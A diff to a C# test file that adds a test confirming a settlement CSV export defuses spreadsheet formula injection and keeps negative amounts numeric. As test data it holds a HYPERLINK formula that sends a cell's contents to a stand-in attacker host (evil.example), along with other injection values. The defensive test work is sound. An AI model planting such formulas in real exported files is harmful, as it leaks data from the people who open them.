@@ -299,6 +299,37 @@ public sealed class StatementTests
     }
 
     [Fact]
+    public async Task The_csv_export_neutralises_text_a_spreadsheet_would_run_as_a_formula_and_keeps_negative_amounts_numbers()
+    {
+        await using var platform = await StartAsync(At(2026, 2, 3));
+        var p = await platform.NewPartnerAsync();
+        var sku = await platform.ProductForAdvancedAsync(12.50m);
+        var formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+        var returned = await p.DeliverOrderAsync(sku, 1, reference: formula);
+        await p.DeliverOrderAsync(sku, 1, reference: "-2+3");
+        await p.DeliverOrderAsync(sku, 1, reference: "@SUM(A1)");
+        await p.ReturnOrderAsync(returned);
+        platform.MoveTo(At(2026, 3, 2));
+        await platform.CloseAsync("2026-02", p.Id);
+        var february = await p.StatementAsync("2026-02");
+        var client = await p.ClientAsync();
+
+        var export = await client.GetAsync($"/v2/settlements/{february["id"]}/export");
+        var csv = await export.Content.ReadAsStringAsync();
+
+        var rows = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        var returnRow = Assert.Single(rows, r => r.StartsWith("order,", StringComparison.Ordinal) && r.Contains(",returned,", StringComparison.Ordinal));
+        // The reference is text that starts with a quote mark (and the cell is quoted) ...
+        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",", returnRow);
+        // ... while the amount stays a plain negative number.
+        Assert.EndsWith(",-12.50,CNY", returnRow);
+        Assert.Contains(rows, r => r.Contains(",\"'-2+3\",", StringComparison.Ordinal));
+        Assert.Contains(rows, r => r.Contains(",\"'@SUM(A1)\",", StringComparison.Ordinal));
+        Assert.DoesNotContain(rows, r => r.Contains(",=", StringComparison.Ordinal) || r.Contains(",@", StringComparison.Ordinal) || r.Contains(",+", StringComparison.Ordinal));
+        Assert.Contains(rows, r => r.StartsWith("line,", StringComparison.Ordinal) && r.Contains(",order_charges,", StringComparison.Ordinal) && r.EndsWith(",-25.00,CNY", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public async Task Activity_subsidies_credit_half_the_cost_capped_at_50000_per_event()
     {
         await using var platform = await StartAsync(At(2026, 7, 1));
